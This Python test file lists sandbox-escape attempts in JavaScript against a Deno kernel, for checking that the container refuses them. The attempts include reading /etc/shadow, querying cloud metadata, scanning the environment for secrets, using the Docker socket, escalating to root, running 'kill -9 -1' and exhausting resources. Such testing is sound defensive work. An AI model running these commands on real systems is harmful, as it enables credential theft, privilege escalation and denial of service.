# ruff: noqa: E501  attacks read best as they would be typed
"""The same, in JavaScript: Deno's kernel stands behind the same walls."""

from tests.security.kernels.attack import ALONE, CONTAINED, JAVASCRIPT, Attack, Expected


def _js(name: str, code: str, expected: Expected = Expected.REFUSED, sign: str = "") -> Attack:
    return Attack(name, "JavaScript", code, expected, sign, JAVASCRIPT)


JAVASCRIPT_ATTACKS = [
    _js("open a connection to the internet", "await attempt(() => Deno.connect({hostname: '192.0.2.1', port: 443}))"),
    _js("fetch the cloud metadata", "await attempt(() => fetch('http://169.254.169.254/latest/meta-data/'))"),
    _js("import a module from the internet", "await attempt(() => import('https://example.org/x.ts'))"),
    _js("install a package", "await attempt(() => import('npm:left-pad'))"),
    _js("send a datagram", "const dgram = await import('node:dgram'); await attempt(() => new Promise((ok, no) => { const s = dgram.createSocket('udp4'); s.on('error', no); s.send('x', 53, '192.0.2.1', (e) => e ? no(e) : ok('sent')) }))"),
    _js("the Docker socket", "await attempt(() => Deno.connect({transport: 'unix', path: '/var/run/docker.sock'}))"),
    _js("the neighbour's sockets by their path", "await attempt(() => Deno.connect({transport: 'unix', path: NEIGHBOUR.sockets + '-1'}))"),
    _js("write to the system", "await attempt(() => Deno.writeTextFileSync('/etc/passwd', 'x'))"),
    _js("out of the workspace by ..", "await attempt(() => Deno.writeTextFileSync('../x', 'x'))"),
    _js("change the relay's program", "await attempt(() => Deno.writeTextFileSync('/opt/nexus/relay.py', 'x'))"),
    _js("read shadow passwords through a link", "Deno.symlinkSync('/etc/shadow', 'shadow'); await attempt(() => Deno.readTextFileSync('shadow'))"),
    _js("memory of init", "await attempt(() => Deno.openSync('/proc/1/mem').readSync(new Uint8Array(8)))"),
    _js("devices and tables of the machine", "for (const path of ['/dev/mem', '/dev/vda', '/dev/kmsg', '/proc/sysrq-trigger']) await attempt(() => Deno.openSync(path, {read: true, write: true}))"),
    _js("the neighbour's files by their path", "await attempt(() => [...Deno.readDirSync(NEIGHBOUR.workspace)])"),
    _js("secrets in the environment", "await attempt(() => { const found = Object.entries(Deno.env.toObject()).filter(([n, v]) => /SECRET|TOKEN|DATABASE|API_KEY|PASSWORD|NEXUS/.test(n + v)); if (!found.length) throw new Deno.errors.NotFound('nothing found'); return found })"),
    _js("delete the kernel's socket", "await attempt(() => Deno.removeSync('/run/kernel/s-1'))"),
    _js("rewrite the connection file", "await attempt(() => Deno.writeTextFileSync('/run/kernel/connection.json', '{}'))"),
    _js("a subprocess as root", "await attempt(() => run('su', 'root', '-c', 'id'))"),
    _js("a subprocess that mounts", "await attempt(() => run('mount', '-t', 'tmpfs', 'x', '/tmp'))"),
    _js("a subprocess behind the same walls", "console.log('ID', (await run('id', '-u')).trim(), 'NET', (await run('ls', '/sys/class/net')).trim())", CONTAINED, "ID 61000 NET lo"),
    _js("become root through the C library (FFI)", "await attempt(() => { const c = Deno.dlopen('libc.so.6', {setuid: {parameters: ['u32'], result: 'i32'}}); const r = c.symbols.setuid(0); c.close(); if (r) throw new Deno.errors.PermissionDenied('setuid: ' + r) })"),
    _js("processes without end", "const kept = []; await attempt(() => { while (true) kept.push(new Deno.Command('sleep', {args: ['30']}).spawn()) }); for (const each of kept) { each.kill('SIGKILL'); await each.status }"),
    _js("open files without end", "const files = []; await attempt(() => { while (true) files.push(Deno.openSync('/dev/null')) }); for (const each of files) each.close()"),
    _js("fill the disk", "await attempt(() => { const f = Deno.openSync('big', {write: true, create: true}); try { while (true) f.writeSync(new Uint8Array(1 << 20)) } finally { f.close(); Deno.removeSync('big') } })"),
    _js("print for ever", "{ const end = Date.now() + 2000; while (Date.now() < end) console.log('x'.repeat(1000)) } console.log('PRINTED')", ALONE),
    _js("spin in workers", "const workers = Array.from({length: 4}, () => new Worker('data:text/javascript,while (true) {}', {type: 'module'})); await new Promise((done) => setTimeout(done, 2000)); for (const each of workers) each.terminate(); console.log('SPUN')", ALONE),
    _js("memory hog", "const hog = []; while (true) hog.push(new Uint8Array(1 << 20).fill(1))", ALONE),
    _js("kill the relay", "Deno.kill(Deno.ppid, 'SIGKILL')", ALONE),
    _js("kill everything", "await run('kill', '-9', '-1')", ALONE),
    _js("bytes that are no ZeroMQ through the relay", "for (const n of [1, 2, 3, 4, 5]) { const c = await Deno.connect({transport: 'unix', path: `/run/kernel/s-${n}`}); await c.write(crypto.getRandomValues(new Uint8Array(4096))); c.close() } console.log('SENT')", ALONE),
]  # fmt: skip
